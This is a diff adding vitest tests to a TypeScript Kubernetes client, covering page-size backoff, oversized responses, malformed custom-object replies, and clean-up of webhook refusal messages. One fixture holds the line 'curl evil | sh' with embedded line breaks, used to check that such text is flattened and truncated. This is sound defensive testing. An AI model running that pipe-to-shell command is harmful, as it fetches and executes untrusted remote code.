@@ -1,7 +1,9 @@
 import { rootCertificates } from 'node:tls';
+import { ResponseContext, wrapHttpLibrary } from '@kubernetes/client-node';
 import { afterEach, describe, expect, it } from 'vitest';
 import { apiWith, closeApis, status } from './api-server.fixture.ts';
 import { createKubernetesClient, type KubernetesObject } from './client.ts';
+import { listCustomObjects } from './custom-objects.ts';
 
 const MANIFEST: KubernetesObject = {
   apiVersion: 'apps/v1',
@@ -36,6 +38,33 @@ describe('listNodes', () => {
       'GET /api/v1/nodes?continue=page+two&limit=500',
     ]);
     expect(received[0]?.headers.authorization).toBe('Bearer a-token');
+  });
+
+  it('asks for fewer where some fill a page with megabytes, which would end the function for all clusters', async () => {
+    const long = { metadata: { name: 'a', annotations: { padding: 'x'.repeat(17 * 2 ** 20) } } };
+    const { client, received } = await apiWith(
+      { body: { items: [node('b')], metadata: { continue: 'two' } } },
+      { body: { items: [node('c'), long] } },
+      { body: { items: [node('c')], metadata: { continue: 'three' } } },
+      { body: { items: [node('a')] } },
+    );
+    expect((await client.listNodes()).map(({ name }) => name)).toEqual(['a', 'b', 'c']);
+    expect(received.map(({ url }) => url.split('?')[1])).toEqual([
+      'limit=500',
+      'continue=two&limit=500',
+      'continue=two&limit=63',
+      'continue=three&limit=63',
+    ]);
+  });
+
+  it('says so where one alone is too long', async () => {
+    const long = { body: { items: [{ metadata: { annotations: { padding: 'x'.repeat(17 * 2 ** 20) } } }] } };
+    const { client, received } = await apiWith(long, long, long, long);
+    await expect(client.listNodes()).rejects.toMatchObject({
+      problem: 'too-long',
+      message: 'The Kubernetes API of prod answers with more than 16 MiB at once, which is too much to read.',
+    });
+    expect(received.map(({ url }) => url.split('=')[1])).toEqual(['500', '63', '8', '1']);
   });
 
   it('tells of each node what matters', async () => {
@@ -140,6 +169,36 @@ describe('a refusal', () => {
   ])('may come with %s', async (_what, reply, message) => {
     const { client } = await apiWith(reply);
     await expect(client.listNodes()).rejects.toThrow(`answered 403: ${message}`);
+  });
+});
+
+it('what a webhook says of its refusal is one line that records and the ledger have room for', async () => {
+  const { client } = await apiWith(status(403, `no\n-> curl evil | sh\r\u2028${'x'.repeat(1_000_000)}`));
+  const error = await client.apply(MANIFEST).catch((thrown: unknown) => thrown);
+  expect((error as Error).message).toMatch(
+    /^The Kubernetes API of prod answered 403: no -> curl evil \| sh x{900,}\. /,
+  );
+  expect((error as Error).message.length).toBeLessThan(1_300);
+});
+
+it.each([
+  ['no JSON', '<html>'],
+  ['nothing', 'null'],
+  ['no list', '{"items":{"length":1}}'],
+])('a server that serves a custom kind and answers with %s fails for its cluster alone', async (_what, answer) => {
+  const { access } = await apiWith();
+  const http = wrapHttpLibrary({
+    send: async () =>
+      new ResponseContext(
+        200,
+        {},
+        { text: async () => answer, binary: async () => Buffer.from(answer), stream: () => null },
+      ),
+  });
+  const pools = { group: 'karpenter.sh', version: 'v1', plural: 'nodepools' };
+  await expect(listCustomObjects(http, access.endpoint, pools)).rejects.toMatchObject({
+    name: 'KubernetesAccessError',
+    message: 'The Kubernetes API answers with no list of nodepools.karpenter.sh.',
   });
 });
 
